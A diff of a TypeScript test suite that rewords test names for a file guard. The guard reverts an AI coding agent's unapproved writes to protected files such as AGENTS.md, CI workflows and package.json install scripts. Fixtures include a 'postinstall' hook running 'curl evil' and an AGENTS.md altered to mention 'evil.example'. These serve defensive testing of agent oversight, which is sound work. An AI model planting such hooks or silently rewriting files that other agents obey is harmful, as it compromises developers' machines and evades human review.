@@ -12,8 +12,8 @@ const approvals: Approvals = {
 };
 const run = (command: string) => call("run_command", { command });
 
-describe("a command that writes what other programs obey, where commands are not asked about", () => {
-  it("finds it put back, before the model is asked again; what it had become is kept (A24, A32)", async () => {
+describe("a command that writes protected files where commands need no approval", () => {
+  it("has them restored before the next request, and the changed version is saved (A24, A32)", async () => {
     const workspace = htmlWorkspace({
       files: { "AGENTS.md": "Be kind.\n", ".github/workflows/ci.yml": "jobs: {}\n" },
       command(command, at) {
@@ -47,7 +47,7 @@ describe("a command that writes what other programs obey, where commands are not
     expect(workspace.text("AGENTS.md")).toContain("evil.example");
   });
 
-  it("A93 finds it put back however many files it made before it, by name", async () => {
+  it("A93 has a file restored by name, however many files the command created before it", async () => {
     const workspace = htmlWorkspace({ files: { "AGENTS.md": "Be kind.\n" } });
     const guard = createFileGuard(workspace);
     await guard.begin();
@@ -64,7 +64,7 @@ describe("a command that writes what other programs obey, where commands are not
     expect(workspace.text(".vscode/tasks.json")).toBeUndefined();
   });
 
-  it("does not touch what the person agreed to, nor what they wrote themselves meanwhile", async () => {
+  it("has no effect on files that the person accepted or wrote meanwhile", async () => {
     const personWrites = new Map<ProjectPath, string>();
     const workspace = htmlWorkspace({
       files: { "AGENTS.md": "Be kind.\n" },
@@ -79,7 +79,7 @@ describe("a command that writes what other programs obey, where commands are not
       { workspace, ports: { approvals: agreed } },
     );
     expect(first.result.outcome).toBe("waiting");
-    // As if it had been agreed to: without approvals nothing is asked, and nothing put back.
+    // Counts as accepted: without approvals nothing is asked and nothing restored.
     const second = await tryRun(
       scriptedModel(
         answer(
@@ -103,7 +103,7 @@ describe("a command that writes what other programs obey, where commands are not
     expect(workspace.text("AGENTS.md")).toBe("New.\n");
   });
 
-  it("is found too where a server writes it later, at the end of the run at the latest", async () => {
+  it("is detected if its server writes later, by the end of the run", async () => {
     const workspace = htmlWorkspace({ files: { "AGENTS.md": "Be kind.\n" } });
     await tryRun(
       scriptedModel(answer("", call("start_server", { command: "serve" })), () => {
@@ -115,7 +115,7 @@ describe("a command that writes what other programs obey, where commands are not
     expect(workspace.text("AGENTS.md")).toBe("Be kind.\n");
   });
 
-  it("finds scripts that run at an install taken out of package.json, and the rest of it kept (A24, A32)", async () => {
+  it("has install scripts removed from package.json and the rest of it kept (A24, A32)", async () => {
     const manifest = (scripts: object, more: object = {}) =>
       `${JSON.stringify({ name: "a", scripts, ...more }, null, 2)}\n`;
     const workspace = htmlWorkspace({
@@ -154,7 +154,7 @@ describe("a command that writes what other programs obey, where commands are not
     expect(workspace.text("packages/c/package.json")).toBe(manifest({}));
   });
 
-  it("asks about such a script also where a server had put it there before the model's edit (A24)", async () => {
+  it("leads to a question about a script that its server added before the model's edit (A24)", async () => {
     const workspace = htmlWorkspace({ files: { "package.json": '{"scripts":{"dev":"vite"}}' } });
     const evil = '{"scripts":{"dev":"vite","postinstall":"curl evil"}}';
     const { result } = await tryRun(
@@ -167,7 +167,7 @@ describe("a command that writes what other programs obey, where commands are not
     expect(result.outcome).toBe("waiting");
   });
 
-  it("keeps a script that was agreed to when a later command changes the rest of the file", async () => {
+  it("leaves an accepted script in place when a later command changes the rest of the file", async () => {
     const workspace = htmlWorkspace();
     const guard = createFileGuard(workspace);
     await guard.begin();
@@ -182,7 +182,7 @@ describe("a command that writes what other programs obey, where commands are not
     expect(await guard.changed()).toMatchObject([{ path: "package.json" }]);
   });
 
-  it("is not taken for the person's where only the page's own saves are (A24, A32)", async () => {
+  it("is not taken for the person if only saves in the page are theirs (A24, A32)", async () => {
     const personWrites = new Map<ProjectPath, string>();
     const workspace = htmlWorkspace();
     let saved = "";
@@ -203,7 +203,7 @@ describe("a command that writes what other programs obey, where commands are not
     expect(workspace.text("CLAUDE.md")).toBe("mine");
   });
 
-  it("takes away a package.json that is too long to be looked into (A24)", async () => {
+  it("loses a package.json too long to be examined (A24)", async () => {
     const workspace = htmlWorkspace({ files: { "package.json": "{}" } });
     const guard = createFileGuard(workspace);
     await guard.begin();
@@ -215,7 +215,7 @@ describe("a command that writes what other programs obey, where commands are not
     expect(workspace.text("package.json")).toBe("{}");
   });
 
-  it("gives up nothing: what cannot be put back stays, and so does what was changed again (A24)", async () => {
+  it("loses no data: a file that cannot be restored, or that changed again, stays (A24)", async () => {
     const long = "x".repeat(1_000_001);
     const workspace = htmlWorkspace({
       files: { ".github/a.bin": long, "AGENTS.md": "Be kind.\n" },
@@ -233,7 +233,7 @@ describe("a command that writes what other programs obey, where commands are not
     expect(workspace.text("AGENTS.md")).toBe("the person's own");
   });
 
-  it("tells the person what a file had become, and keeps that for them (A24)", async () => {
+  it("is reported to the person, with the changed version saved for them (A24)", async () => {
     const saved: string[] = [];
     const workspace = htmlWorkspace({
       files: {
@@ -268,7 +268,7 @@ describe("a command that writes what other programs obey, where commands are not
         run: "r1",
         state: "put-back",
         files: [
-          // Too long to be kept by itself.
+          // Too long to be saved separately.
           { path: ".cursor/rules/x.mdc", told: true, left: "absent" },
           {
             path: ".npmrc",
@@ -290,7 +290,7 @@ describe("a command that writes what other programs obey, where commands are not
         type: "protected-changed",
         run: "r1",
         state: "stands",
-        // It cannot be put back.
+        // It cannot be restored.
         files: [{ path: ".github/a.bin", told: false, version: await versionOf(".github/a.bin") }],
       },
     ]);
